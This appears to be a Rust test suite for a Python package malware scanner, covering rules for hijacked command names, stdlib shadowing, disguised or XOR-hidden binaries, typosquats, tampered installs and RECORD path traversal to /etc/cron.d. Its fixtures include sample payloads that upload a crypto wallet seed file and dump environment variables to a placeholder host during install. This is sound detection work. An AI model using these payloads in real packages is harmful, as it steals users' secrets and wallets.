//! Must-match and must-not-match cases for the PKG rules whose fixtures are package
//! structure rather than one file (`FIXTURES_IN_CODE` in `registry.rs`): PKG002 to PKG008
//! and PKG011.
//! Each case builds an [`Artifact`] in memory — a wheel, or an installed environment whose
//! entries carry their sha256 as `assay_sources` computes it — and runs the whole engine.
#![allow(clippy::unwrap_used)]

mod common;

use assay_core::{Artifact, ArtifactFormat, Severity};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use common::entry;
use sha2::{Digest, Sha256};

fn sha256(data: &[u8]) -> [u8; 32] {
    Sha256::digest(data).into()
}

/// `sha256=<urlsafe base64, no padding>`, the RECORD hash form (PEP 376 / PEP 427).
fn record_hash(data: &[u8]) -> String {
    format!("sha256={}", URL_SAFE_NO_PAD.encode(sha256(data)))
}

const PURE_WHEEL: &str =
    "Wheel-Version: 1.0\nGenerator: assay-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
const PLATFORM_WHEEL: &str = "Wheel-Version: 1.0\nGenerator: assay-tests\nRoot-Is-Purelib: false\nTag: cp311-cp311-manylinux_2_17_x86_64\n";

/// A wheel of project `name` 1.0 with the given `WHEEL` file and `files`.
fn wheel_with(name: &str, wheel: &str, files: &[(&str, &[u8])]) -> Artifact {
    let info = format!("{name}-1.0.dist-info");
    let mut a = Artifact::new(
        format!("{name}-1.0-py3-none-any.whl"),
        ArtifactFormat::Wheel,
    );
    for (p, d) in files {
        a.entries.push(entry(p, d));
    }
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    a.entries
        .push(entry(&format!("{info}/METADATA"), metadata.as_bytes()));
    a.entries
        .push(entry(&format!("{info}/WHEEL"), wheel.as_bytes()));
    a.entries.push(entry(&format!("{info}/RECORD"), b""));
    a
}

/// A pure-Python wheel of project `name` 1.0.
fn wheel(name: &str, files: &[(&str, &[u8])]) -> Artifact {
    wheel_with(name, PURE_WHEEL, files)
}

/// `(code, severity, path)` of every finding.
fn findings(a: &Artifact) -> Vec<(String, Severity, String)> {
    assay_rules::analyze_artifact(a)
        .findings
        .into_iter()
        .map(|f| (f.rule.code().to_owned(), f.severity, f.location.path))
        .collect()
}

/// The findings of one rule.
fn of(a: &Artifact, code: &str) -> Vec<(Severity, String)> {
    findings(a)
        .into_iter()
        .filter(|(c, _, _)| c == code)
        .map(|(_, s, p)| (s, p))
        .collect()
}

fn assert_matches(a: &Artifact, code: &str) -> Vec<(Severity, String)> {
    let got = of(a, code);
    assert!(
        !got.is_empty(),
        "{code} must match {}: got {:?}",
        a.path,
        findings(a)
    );
    got
}

fn assert_no_match(a: &Artifact, code: &str) {
    let got = of(a, code);
    assert!(
        got.is_empty(),
        "{code} must not match {}: got {got:?}",
        a.path
    );
}

// ------------------------------------------------------------------ PKG002

fn with_scripts(project: &str, scripts: &str) -> Artifact {
    let ep = format!("[console_scripts]\n{scripts}\n");
    let init: &[u8] = b"def main():\n    return 0\n";
    wheel(
        project,
        &[
            ("x/__init__.py", init),
            ("x/cli.py", init),
            (
                &format!("{project}-1.0.dist-info/entry_points.txt"),
                ep.as_bytes(),
            ),
        ],
    )
}

#[test]
fn pkg002_console_script_named_git_matches() {
    let a = with_scripts("x", "git = x.cli:main");
    let got = assert_matches(&a, "PKG002");
    assert_eq!(got[0].1, "x-1.0.dist-info/entry_points.txt");
    // GUI scripts land on PATH too.
    let ep = b"[gui_scripts]\nsudo = x.cli:main\n";
    let a = wheel("x", &[("x-1.0.dist-info/entry_points.txt", ep)]);
    assert_matches(&a, "PKG002");
}

#[test]
fn pkg002_distinct_script_names_do_not_match() {
    assert_no_match(&with_scripts("x", "x-tool = x.cli:main"), "PKG002");
    // Only the exact command name counts, not a prefix of it.
    assert_no_match(&with_scripts("x", "gitx = x.cli:main"), "PKG002");
    // Plugin entry points are not put on PATH.
    let ep = b"[x.plugins]\ngit = x.cli:main\n";
    let a = wheel("x", &[("x-1.0.dist-info/entry_points.txt", ep)]);
    assert_no_match(&a, "PKG002");
}

#[test]
fn pkg002_the_real_project_may_install_its_command() {
    assert_no_match(
        &with_scripts("pip", "pip = pip._internal.cli.main:main"),
        "PKG002",
    );
    // …but not someone else's.
    assert_matches(&with_scripts("x", "pip = x.cli:main"), "PKG002");
}

// ------------------------------------------------------------------ PKG003

#[test]
fn pkg003_top_level_stdlib_module_matches() {
    let a = wheel(
        "x",
        &[("subprocess.py", b"import os\n"), ("x/__init__.py", b"")],
    );
    let got = assert_matches(&a, "PKG003");
    assert_eq!(got, vec![(Severity::High, "subprocess.py".to_owned())]);
    // A top-level package counts too.
    let a = wheel("x", &[("socket/__init__.py", b"")]);
    assert_matches(&a, "PKG003");
}

#[test]
fn pkg003_nested_stdlib_named_module_does_not_match() {
    let a = wheel(
        "x",
        &[("mypkg/__init__.py", b""), ("mypkg/subprocess.py", b"")],
    );
    assert_no_match(&a, "PKG003");
    // A backport named after the module it backports is exempt (the same file from
    // another project matches).
    assert_no_match(&wheel("pathlib", &[("pathlib.py", b"")]), "PKG003");
    assert_matches(&wheel("x", &[("pathlib.py", b"")]), "PKG003");
}

// ------------------------------------------------------------------ PKG004

/// The first bytes of a 64-bit little-endian ELF file.
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00";

#[test]
fn pkg004_machine_code_in_a_pure_wheel_matches() {
    let a = wheel("x", &[("x/__init__.py", b""), ("x/data.txt", ELF)]);
    let got = assert_matches(&a, "PKG004");
    assert_eq!(
        got,
        vec![(Severity::High, "x/data.txt".to_owned())],
        "a binary under a non-binary name is high"
    );
    let a = wheel("x", &[("x/_speedups.so", ELF)]);
    assert_eq!(
        assert_matches(&a, "PKG004"),
        vec![(Severity::Medium, "x/_speedups.so".to_owned())]
    );
    // A Unix tool without an extension says what it is (medium); the same bytes under
    // another type's extension, or a PE without `.exe`, are a disguise (high).
    let a = wheel("x", &[("x/flac-linux-x86", ELF), ("x/logo.png", ELF)]);
    assert_eq!(
        assert_matches(&a, "PKG004"),
        vec![
            (Severity::High, "x/logo.png".to_owned()),
            (Severity::Medium, "x/flac-linux-x86".to_owned()),
        ]
    );
}

#[test]
fn pkg004_libraries_of_a_bundled_archive_are_low() {
    // A Lambda layer zip / frozen application inside a pure wheel: pip installs the
    // archive; its honestly named libraries are the bundle's runtime (low). A disguised
    // member of the same bundle is still high.
    let a = wheel(
        "x",
        &[
            (
                "x/layer.zip!/awscli/_yaml.cpython-311-x86_64-linux-gnu.so",
                ELF,
            ),
            ("x/tool.tar.gz!/_internal/libssl.so.3", ELF),
            ("x/layer.zip!/awscli/logo.png", ELF),
        ],
    );
    let got = assert_matches(&a, "PKG004");
    assert!(
        got.contains(&(Severity::High, "x/layer.zip!/awscli/logo.png".to_owned())),
        "{got:?}"
    );
    assert!(
        got.iter()
            .filter(|(_, p)| p.ends_with(".so") || p.ends_with(".so.3"))
            .all(|(s, _)| *s == Severity::Low),
        "{got:?}"
    );
}

#[test]
fn pkg004_platform_wheel_with_extension_module_does_not_match() {
    let a = wheel_with(
        "x",
        PLATFORM_WHEEL,
        &[
            ("x/__init__.py", b""),
            ("x/_speedups.cpython-311-x86_64-linux-gnu.so", ELF),
        ],
    );
    assert_no_match(&a, "PKG004");
}

// ------------------------------------------------------------------ PKG005

#[test]
fn pkg005_typosquat_name_matches() {
    let a = wheel("reqeusts", &[("reqeusts/__init__.py", b"")]);
    let got = assert_matches(&a, "PKG005");
    assert_eq!(got[0].1, "reqeusts-1.0.dist-info/METADATA");
}

#[test]
fn pkg005_the_real_name_does_not_match() {
    let a = wheel("requests", &[("requests/__init__.py", b"")]);
    assert_no_match(&a, "PKG005");
}

// ------------------------------------------------------------------ PKG006–PKG008

const INIT: &[u8] = b"\"\"\"pkg.\"\"\"\n__version__ = \"1.0\"\n";

/// An installed environment (`/venv`) holding `pkg` 1.0 as installed (`pkg/__init__.py`,
/// recorded with its hash), the `extra_rows` appended to its RECORD, and `files` on disk
/// (overriding the installed ones by path). Every entry carries its real sha256, as
/// `assay_sources::read_environment` gives it.
fn environment(extra_rows: &str, files: &[(&str, &[u8])]) -> Artifact {
    let metadata: &[u8] = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n";
    let record = format!(
        "pkg/__init__.py,{},{}\npkg-1.0.dist-info/METADATA,{},{}\npkg-1.0.dist-info/RECORD,,\n{extra_rows}",
        record_hash(INIT),
        INIT.len(),
        record_hash(metadata),
        metadata.len(),
    );
    let mut on_disk: Vec<(&str, &[u8])> = vec![
        ("pkg/__init__.py", INIT),
        ("pkg-1.0.dist-info/METADATA", metadata),
        ("pkg-1.0.dist-info/RECORD", record.as_bytes()),
    ];
    for (p, d) in files {
        match on_disk.iter_mut().find(|(q, _)| q == p) {
            Some(slot) => slot.1 = d,
            None => on_disk.push((p, d)),
        }
    }
    let mut a = Artifact::new("/venv", ArtifactFormat::Environment);
    a.env_prefix = Some("/venv".into());
    for (p, d) in on_disk {
        let mut e = entry(p, d);
        e.sha256 = Some(sha256(d));
        a.entries.push(e);
    }
    a
}

#[test]
fn pkg006_to_pkg008_stay_quiet_on_an_intact_environment() {
    let a = environment("", &[]);
    for code in ["PKG006", "PKG007", "PKG008"] {
        assert_no_match(&a, code);
    }
}

#[test]
fn pkg006_changed_file_matches() {
    let a = environment(
        "",
        &[(
            "pkg/__init__.py",
            b"\"\"\"pkg.\"\"\"\n__version__ = \"1.0\"\nimport os; os.system('echo assay-canary')\n",
        )],
    );
    assert_eq!(
        assert_matches(&a, "PKG006"),
        vec![(Severity::High, "pkg/__init__.py".to_owned())]
    );
}

#[test]
fn pkg006_only_applies_to_environments() {
    // The same tree read as a plain directory: only installed environments are verified.
    let mut a = environment("", &[("pkg/__init__.py", b"changed = True\n")]);
    a.format = ArtifactFormat::Directory;
    assert_no_match(&a, "PKG006");
}

#[test]
fn pkg007_unrecorded_module_in_an_owned_package_matches() {
    let a = environment("", &[("pkg/evil.py", b"import os\n")]);
    assert_eq!(
        assert_matches(&a, "PKG007"),
        vec![(Severity::Low, "pkg/evil.py".to_owned())]
    );
}

#[test]
fn pkg007_unrecorded_top_level_pth_matches() {
    let a = environment("", &[("zz.pth", b"import os\n")]);
    assert_eq!(
        assert_matches(&a, "PKG007"),
        vec![(Severity::Medium, "zz.pth".to_owned())]
    );
}

#[test]
fn pkg007_recorded_and_cache_files_do_not_match() {
    let pth: &[u8] = b"/opt/extra\n";
    let a = environment(
        &format!("pkg.pth,{},{}\n", record_hash(pth), pth.len()),
        &[
            ("pkg.pth", pth),
            // Caches are ignored, whatever their content.
            ("pkg/__pycache__/stale.py", b""),
            // Not in a directory any distribution owns: not this rule's business.
            ("loose/helper.py", b""),
        ],
    );
    assert_no_match(&a, "PKG007");
}

#[test]
fn pkg008_record_row_outside_the_environment_matches() {
    let a = environment("../../../../../etc/cron.d/x,,\n", &[]);
    let got = assert_matches(&a, "PKG008");
    assert_eq!(
        got,
        vec![(Severity::High, "pkg-1.0.dist-info/RECORD".to_owned())]
    );
    let a = environment("/etc/cron.d/x,,\n", &[]);
    assert_matches(&a, "PKG008");
}

#[test]
fn pkg008_record_row_inside_the_prefix_does_not_match() {
    // Scripts land in `<prefix>/bin`, three levels above site-packages.
    let a = environment("../../../bin/tool,,\n", &[]);
    assert_no_match(&a, "PKG008");
    let a = environment("/venv/bin/tool,,\n", &[]);
    assert_no_match(&a, "PKG008");
}

#[test]
fn pkg001_unreadable_pth_is_reported_not_skipped() {
    // More executable lines than the .pth parser's bound: the file cannot be analysed, so
    // it must be reported decisively (fail closed) rather than treated as clean.
    let big = "import os\n".repeat(10_001);
    let a = wheel("bigpth", &[("bigpth.pth", big.as_bytes())]);
    let hits = assert_matches(&a, "PKG001");
    assert!(
        hits.iter()
            .any(|(s, p)| *s == Severity::Critical && p == "bigpth.pth"),
        "{hits:?}"
    );
    // 100,001 path lines are only paths (`site` executes none of them): counted, not kept.
    let paths = "some/dir\n".repeat(100_001);
    let paths = wheel("pathpth", &[("pathpth.pth", paths.as_bytes())]);
    assert_no_match(&paths, "PKG001");
    let small = wheel("smallpth", &[("smallpth.pth", b"some/dir\n")]);
    assert_no_match(&small, "PKG001");
}

/// A function imported into a package `__init__` and called there at module level runs at
/// import time: its code is graded as import-time (`from .m import *` then `initialize()`).
#[test]
fn functions_called_from_init_across_modules_run_at_import() {
    let payload: &[u8] = b"import os, requests\n\
def initialize():\n    p = os.getenv('APPDATA') + '\\\\exodus\\\\exodus.wallet\\\\seed.seco'\n    \
requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
    for init in [
        &b"from .m import *\ninitialize()\n"[..],
        &b"from .m import initialize\ninitialize()\n"[..],
    ] {
        let a = wheel(
            "crossmod",
            &[("crossmod/__init__.py", init), ("crossmod/m.py", payload)],
        );
        let r = assay_rules::analyze_artifact(&a);
        assert!(
            r.findings.iter().any(|f| f.rule.code() == "PY008"
                && f.context == Some(assay_core::ExecutionContext::ImportTime)),
            "{:?}",
            r.findings
        );
    }
    // Imported but not called at import time: stays runtime.
    let a = wheel(
        "crossmod",
        &[
            ("crossmod/__init__.py", b"from .m import initialize\n"),
            ("crossmod/m.py", payload),
        ],
    );
    let r = assay_rules::analyze_artifact(&a);
    assert!(
        r.findings
            .iter()
            .all(|f| f.context != Some(assay_core::ExecutionContext::ImportTime)),
        "{:?}",
        r.findings
    );
}

/// A minimal PE image header: `MZ`, `e_lfanew` = 0x80 at 0x3C, `PE\0\0` at 0x80.
fn pe_image() -> Vec<u8> {
    let mut pe = vec![0u8; 0x200];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe
}

fn xor(data: &[u8], key: u8) -> Vec<u8> {
    data.iter().map(|b| b ^ key).collect()
}

#[test]
fn pkg011_xor_encrypted_pe_named_py_matches() {
    let hidden = xor(&pe_image(), 0xe3);
    let a = wheel("x", &[("x/__init__.py", b""), ("x/test.py", &hidden)]);
    let got = assert_matches(&a, "PKG011");
    assert_eq!(got, vec![(Severity::Critical, "x/test.py".to_owned())]);
    let elf = xor(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", 0x5a);
    assert_matches(&wheel("x", &[("x/blob.dat", &elf)]), "PKG011");
}

#[test]
fn pkg011_plain_random_and_near_miss_files_do_not_match() {
    // A plain PE is PKG004's finding, not this rule's.
    assert_no_match(&wheel("x", &[("x/a.dll", &pe_image())]), "PKG011");
    // The two-byte magic under some key without the PE signature behind it.
    let mut near = xor(&pe_image(), 0x21);
    near[0x80] ^= 0xff;
    assert_no_match(&wheel("x", &[("x/near.bin", &near)]), "PKG011");
    // Pseudo-random bytes (an xorshift stream), e.g. compressed data.
    let mut s: u64 = 0x9e37_79b9_7f4a_7c15;
    let noise: Vec<u8> = (0..4096)
        .map(|_| {
            s ^= s << 13;
            s ^= s >> 7;
            s ^= s << 17;
            (s >> 24) as u8
        })
        .collect();
    assert_no_match(&wheel("x", &[("x/noise.bin", &noise)]), "PKG011");
    assert_no_match(
        &wheel("x", &[("x/mod.py", b"import os\nprint('MZ')\n")]),
        "PKG011",
    );
}

/// An sdist `demo-1.0` whose `setup.py` is `setup_py`, with `pkg/_boot.py` beside it.
fn sdist_exec(setup_py: &str) -> Artifact {
    let mut a = Artifact::new("demo-1.0.tar.gz", ArtifactFormat::Sdist);
    a.entries
        .push(entry("demo-1.0/setup.py", setup_py.as_bytes()));
    a.entries.push(entry(
        "demo-1.0/pkg/_boot.py",
        b"import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n",
    ));
    a.entries.push(entry("demo-1.0/pkg/__init__.py", b""));
    a.entries.push(entry(
        "demo-1.0/PKG-INFO",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    ));
    a
}

/// PY005 at install-time severity (High; at import time it is Low) in `pkg/_boot.py`.
fn network_at_install_in_boot(a: &Artifact) -> bool {
    of(a, "PY005")
        .iter()
        .any(|(sev, path)| *sev >= Severity::High && path.ends_with("pkg/_boot.py"))
}

#[test]
fn a_file_the_setup_script_executes_runs_at_install_time() {
    for setup in [
        "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'pkg', '_boot.py')).read())\nsetup(name='demo')\n",
        "from setuptools import setup\nexec(compile(open('pkg/_boot.py', 'rb').read(), 'pkg/_boot.py', 'exec'))\nsetup(name='demo')\n",
        "from setuptools import setup\nwith open('./pkg/_boot.py') as f:\n    exec(f.read())\nsetup(name='demo')\n",
    ] {
        assert!(network_at_install_in_boot(&sdist_exec(setup)), "{setup}");
    }
}

#[test]
fn a_file_the_setup_script_only_reads_keeps_its_context() {
    for setup in [
        // Read for its text (a version), not executed.
        "from setuptools import setup\nv = open('pkg/_boot.py').read().split()[0]\nsetup(name='demo', version=v)\n",
        // Another file executed; `_boot.py` is not it.
        "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='demo')\n",
    ] {
        assert!(!network_at_install_in_boot(&sdist_exec(setup)), "{setup}");
    }
}

/// An sdist whose `setup.py` imports a local `build_support` package; its `__init__.py`
/// imports `build_support.commands` (absolutely or relatively), which holds `commands`.
fn sdist_helper_chain(init: &str, commands: &str) -> Artifact {
    let mut a = Artifact::new("demo-1.0.tar.gz", ArtifactFormat::Sdist);
    for (p, d) in [
        (
            "demo-1.0/setup.py",
            "from setuptools import setup\nfrom build_support import kwargs\nsetup(**kwargs)\n",
        ),
        ("demo-1.0/build_support/__init__.py", init),
        ("demo-1.0/build_support/commands.py", commands),
        (
            "demo-1.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
    ] {
        a.entries.push(entry(p, d.as_bytes()));
    }
    a
}

/// A custom install command that sends the environment (harmless host).
const INSTALL_COMMAND_SENDS_ENV: &str = "import json, os, urllib.request\nfrom setuptools.command.install import install\nclass InstallCommand(install):\n    def run(self):\n        urllib.request.urlopen('https://example.invalid/c', data=json.dumps(dict(os.environ)).encode())\n        install.run(self)\n";

#[test]
fn an_install_command_in_a_module_the_setup_helpers_import_runs_at_install_time() {
    for init in [
        "import build_support.commands\nkwargs = {'name': 'demo', 'cmdclass': {'install': build_support.commands.InstallCommand}}\n",
        "from .commands import InstallCommand\nkwargs = {'name': 'demo', 'cmdclass': {'install': InstallCommand}}\n",
    ] {
        let a = sdist_helper_chain(init, INSTALL_COMMAND_SENDS_ENV);
        let hits = of(&a, "PY008");
        assert!(
            hits.iter().any(|(sev, path)| *sev == Severity::Critical
                && path.ends_with("build_support/commands.py")),
            "{init}: {hits:?}"
        );
    }
}

#[test]
fn helpers_further_down_without_a_command_keep_their_context() {
    // A build helper two imports away that downloads sources when asked: its functions
    // run only if build code calls them, so they are not install-time code.
    let helper = "import urllib.request, os\ndef fetch(url):\n    env = dict(os.environ)\n    return urllib.request.urlopen(url, data=str(env).encode())\n";
    let a = sdist_helper_chain(
        "from . import commands\nkwargs = {'name': 'demo'}\n",
        helper,
    );
    // A direct env-to-network flow is high at runtime, critical only at install.
    let hits = of(&a, "PY008");
    assert!(!hits.is_empty(), "the flow itself is still reported");
    assert!(
        hits.iter().all(|(sev, _)| *sev < Severity::Critical),
        "{hits:?}"
    );
}
